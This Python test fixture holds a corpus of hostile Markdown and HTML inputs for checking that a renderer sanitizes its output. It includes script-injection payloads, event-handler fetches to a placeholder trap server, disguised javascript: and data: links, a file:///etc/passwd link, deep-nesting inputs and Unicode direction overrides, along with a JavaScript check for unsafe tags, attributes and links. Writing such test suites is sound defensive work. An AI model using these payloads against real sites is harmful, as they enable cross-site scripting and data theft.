"""Markdown that somebody wishes would run, load or mislead, and how to tell that it did not.

`{trap}` becomes the address of a server that nobody may call.
"""

from __future__ import annotations

from typing import Final

CORPUS: Final[dict[str, str]] = {
    "script": "zebra <script>window.fooled = 1; alert(1)</script> crossing",
    "script from elsewhere": 'zebra <script src="{trap}/s.js"></script> crossing',
    "handler": "zebra <img src=x onerror=\"fetch('{trap}/e')\"> crossing",
    "drawing": 'zebra <svg onload="window.fooled = 1"><use href="{trap}/u#x"/></svg> crossing',
    "frame": 'zebra <iframe src="{trap}/f"></iframe><object data="{trap}/o"></object> crossing',
    "style": 'zebra <style>@import "{trap}/c";</style><link rel=stylesheet href="{trap}/l">',
    "refresh": 'zebra <meta http-equiv=refresh content="0;url={trap}/m"><base href="{trap}/">',
    "form": 'zebra <form action="{trap}/p"><input autofocus onfocus="window.fooled = 1"></form>',
    "image": "zebra ![crossing]({trap}/i.png) and ![][one] crossing\n\n[one]: {trap}/r.png",
    "javascript link": "zebra [crossing](javascript:window.fooled=1) and <javascript:alert(1)>",
    "disguised links": (
        "zebra [one](JaVaScRiPt:alert(1)) [two](\x01javascript:alert(2)) "
        "[three](java\tscript:alert(3)) [four](&#106;avascript:alert(4)) "
        "[five](data:text/html,<script>alert(5)</script>) [six](vbscript:alert(6)) "
        "[seven](file:///etc/passwd) [eight](blob:{trap}/x) [nine](//elsewhere.example/x)"
    ),
    "breaking out": 'zebra [crossing](<{trap}/" onfocus="alert(1)>) \'"><b onclick=alert(1)>x</b>',
    "deep quotes": ">" * 900 + " zebra crossing",
    "deep lists": "".join(f"{'  ' * depth}- zebra\n" for depth in range(40)),
    "deep brackets": "[" * 700 + "zebra crossing" + "](x)" * 300,
    "endless emphasis": "*_" * 800 + " zebra crossing",
    "overrides": "zebra \u202egnorw\u202c \u2066[safe\u202e](https://example.com/)\u2069 \u200fend",
    "control characters": "zebra \x00\x08\x0b\x1b[31m crossing \ufeff\ufffe",
    "lone surrogate escape": "zebra &#xD800; &#0; &#x110000; crossing",
}
"""By what it tries. Every text has words, so that a model that repeats it is believed."""

INSPECT: Final = """(part) => {
  const allowed = new Set(["A", "B", "BDI", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DIV", "EM", "HR",
    "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"]);
  const found = [];
  const depthOf = (node) => node === part ? 0 : 1 + depthOf(node.parentElement);
  for (const node of part.querySelectorAll("*")) {
    if (!allowed.has(node.tagName.toUpperCase())) found.push(node.outerHTML.slice(0, 120));
    if (depthOf(node) > 40) found.push("nested too deep");
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "style") found.push(`${name}=${value}`);
    }
    if (node.tagName === "A") {
      if (!["http:", "https:", "mailto:"].includes(node.protocol)) found.push(node.href);
      if (node.target !== "_blank" || !node.relList.contains("noopener")) found.push("a bare link");
    }
  }
  if (window.fooled !== undefined) found.push("it ran");
  return found;
}"""
"""What is in an element that a visitor must never be shown; nothing, if all is well."""


def corpus(trap: str) -> dict[str, str]:
    """The texts, aimed at this server."""
    return {name: text.replace("{trap}", trap) for name, text in CORPUS.items()}
